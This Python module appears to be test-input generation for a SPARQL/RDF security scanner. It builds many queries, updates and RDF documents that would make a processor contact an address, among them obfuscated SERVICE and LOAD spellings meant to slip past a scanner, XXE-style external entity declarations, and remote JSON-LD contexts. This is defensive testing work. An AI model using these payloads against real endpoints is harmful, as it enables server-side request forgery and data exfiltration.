"""Spellings of attempts to reach the network from SPARQL, RDF documents, and random text."""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product
from typing import Final

#: text right before the keyword that may hide its beginning from a scanner
_BEFORE: Final = (
    "?s ?p 1", "?s ?p 1.0", "?s ?p 1e0", "?s ?p .5", "?s ?p true", "?s ?p 'x'", "?s ?p <urn:x>",
    "?s ?p ''' \"\"\" '''", "?s ?p b:x\\#", "?s ?p b:·\\#.", "", "?s ?p ?o. ", "BIND(1 AS ?x)",
    "#{\n",
    "?s ?p '\\\\'", "?s ?p \"\"\"'\"\"\"",
)  # fmt: skip
_KEYWORDS: Final = (
    "SERVICE", "service", "SeRvIcE", "SERVICE SILENT", "\\u0053ERVICE", "SER\\U00000056ICE",
    "SERVICE#c\n", "SERVICE SILENT#}\n", "SERVICE\t", "SERVICESILENT",
)  # fmt: skip
#: the endpoint; the prefixes a·b, a.b, b, ä and the empty one are declared
_ENDPOINTS: Final = (
    "<{0}>", " a·b:x", " b:x", " :x", " a.b:x", " ä:x", " b:x·y", " b:%78", " b:\\-x", " b:",
    "<{0}\\u0078>", " b:x.y", " ?e", " $e",
)  # fmt: skip
_CONTEXTS: Final = (
    "SELECT * {{ {0} }}", "ASK {{ {0} }}", "SELECT * WHERE {{ {{ SELECT * {{ {0} }} }} }}",
    "SELECT * {{ OPTIONAL {{ {0} }} }}", "SELECT * {{ {{ {0} }} UNION {{ }} }}",
    "SELECT * {{ ?a ?b ?c MINUS {{ {0} }} }}", "SELECT * {{ FILTER EXISTS {{ {0} }} }}",
    "SELECT * {{ ?q ?r ?t FILTER NOT EXISTS {{ {0} }} }}",
    "SELECT * {{ FILTER EXISTS {{ FILTER EXISTS {{ {0} }} }} }}",
    "SELECT * {{ BIND(EXISTS {{ {0} }} AS ?z) }}",
    "SELECT (COUNT(*) AS ?n) {{ {0} }} GROUP BY ?s", "CONSTRUCT {{ ?a ?b ?c }} WHERE {{ {0} }}",
    "DESCRIBE ?s {{ {0} }}", "SELECT * {{ GRAPH ?g {{ {0} }} }}",
    "SELECT (EXISTS {{ {0} }} AS ?z) {{ }}", "SELECT * {{ }} ORDER BY EXISTS {{ {0} }}",
)  # fmt: skip
_PREFIXES: Final = (
    "PREFIX a·b: <{0}> PREFIX b: <{0}> PREFIX : <{0}> PREFIX a.b: <{0}> PREFIX ä: <{0}> "
)
_UPDATES: Final = (
    "INSERT {{ ?s <urn:stolen> ?c }} WHERE {{ {0} }}", "DELETE {{ ?a ?b ?c }} WHERE {{ {0} }}",
    "WITH <urn:g> INSERT {{ ?a ?b ?c }} WHERE {{ {0} }}",
    "INSERT {{ ?a ?b ?c }} USING <urn:g> WHERE {{ {0} }}",
    "INSERT {{ ?a ?b ?c }} USING NAMED <urn:g> WHERE {{ {0} }}",
    "INSERT DATA {{ }} ; INSERT {{ ?a ?b ?c }} WHERE {{ {0} }}",
    "DELETE WHERE {{ ?a ?b ?c }} ; DELETE {{ ?a ?b ?c }} WHERE {{ {0} }}",
)  # fmt: skip
_LOADS: Final = (
    "LOAD <{0}>", "load<{0}>", "LOAD SILENT <{0}>", "\\u004COAD <{0}>", "LOAD#c\n<{0}>",
    "INSERT DATA {{ }} ; LOAD <{0}> INTO GRAPH <urn:g>", "LOAD b:x", "LOAD a·b:x", "LOADb:x",
    "INSERT DATA {{ <urn:s> <urn:p> b:x\\# }} ;LOAD <{0}>",
    "INSERT DATA {{ <urn:s> <urn:p> b:·\\# }} ;LOAD <{0}> #\n",
    "INSERT DATA {{ <urn:s> <urn:p> ''' \\\" ''' }} ;LOAD<{0}>", "LOAD SILENT:x INTO GRAPH <urn:g>",
    "CREATE SILENT GRAPH <urn:g> ; LOAD\t<{0}>", "CLEAR SILENT GRAPH <urn:g>;lOaD <{0}>",
)  # fmt: skip
_REMOTE_GRAPHS: Final = (
    "SELECT * FROM <{0}> {{ ?s ?p ?o }}", "SELECT * FROM NAMED <{0}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "SELECT * FROM b:x {{ ?s ?p ?o }}", "DESCRIBE <{0}x>",
    "SELECT * {{ GRAPH <{0}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ BIND(<{0}>(1) AS ?x) }}", "SELECT * {{ ?s <{0}> ?o }}",
    "BASE <{0}> SELECT * FROM <x> {{ ?s ?p ?o }}",
)  # fmt: skip


def queries(address: str, count: int = 240, seed: int = 1) -> list[str]:
    """Queries that would call `address`: each part on its own, then `count` mixtures."""
    parts = [_BEFORE, _KEYWORDS, _ENDPOINTS, _CONTEXTS]
    plain = [_BEFORE[-6], _KEYWORDS[0], _ENDPOINTS[0], _CONTEXTS[0]]
    chosen = [
        (*plain[:at], value, *plain[at + 1 :]) for at, part in enumerate(parts) for value in part
    ]
    rng = random.Random(seed)
    chosen += [tuple(rng.choice(part) for part in parts) for _ in range(count)]
    found = [_query(address, *(str(part) for part in choice)) for choice in chosen]
    graphs = [(_PREFIXES + text).format(address) for text in _REMOTE_GRAPHS]
    return list(dict.fromkeys([*found, *graphs]))


def updates(address: str) -> list[str]:
    """Updates that would call `address`."""
    bodies = [_body(address, *parts) for parts in product(_BEFORE[:10:3], _KEYWORDS[::3],
                                                          _ENDPOINTS[:4:3])]  # fmt: skip
    prefixes = _PREFIXES.format(address)
    found = [prefixes + form.format(body) for form in _UPDATES for body in bodies]
    return [*found, *(prefixes + text.format(address) for text in _LOADS)]


def fuzzed(texts: list[str], count: int, seed: int = 2) -> Iterator[str]:
    """Texts with a few characters inserted, removed or doubled at random."""
    rng = random.Random(seed)
    glue = "·\\#<>{}()'\" \n:.;1_@^?\u00ad\ufeff\u2028e-"
    for _ in range(count):
        text = list(rng.choice(texts))
        for _ in range(rng.randint(1, 4)):
            at = rng.randrange(len(text))
            text[at : at + rng.randint(0, 1)] = rng.choice([rng.choice(glue), text[at] * 2])
        yield "".join(text)


def documents(address: str) -> list[tuple[str, bytes]]:
    """Media types and RDF documents that would fetch from `address`."""
    xml = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
    texts = [
        ("application/ld+json", f'{{"@context": "{address}", "@id": "urn:a", "b": "c"}}'),
        ("application/ld+json", f'{{"@context": {{"@import": "{address}"}}, "@id": "urn:a"}}'),
        ("application/rdf+xml", f'<!DOCTYPE r SYSTEM "{address}"><rdf:RDF {xml}/>'),
        ("application/rdf+xml", f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{address}">%x;]><r {xml}/>'),
        ("text/turtle", f"@base <{address}> . @prefix a: <{address}> . <> <urn:imports> a:x ."),
        ("text/turtle", f"<urn:o> <http://www.w3.org/2002/07/owl#imports> <{address}> ."),
    ]  # fmt: skip
    return [(kind, text.encode()) for kind, text in texts]


def _query(address: str, before: str, keyword: str, endpoint: str, context: str) -> str:
    return _PREFIXES.format(address) + context.format(_body(address, before, keyword, endpoint))


def _body(address: str, before: str, keyword: str, endpoint: str) -> str:
    bound = f"BIND(<{address}> AS ?e) " if endpoint[-2:] in ("?e", "$e") else ""
    return f"{bound}{before}{keyword}{endpoint.format(address)} {{ ?a ?b ?c }}"
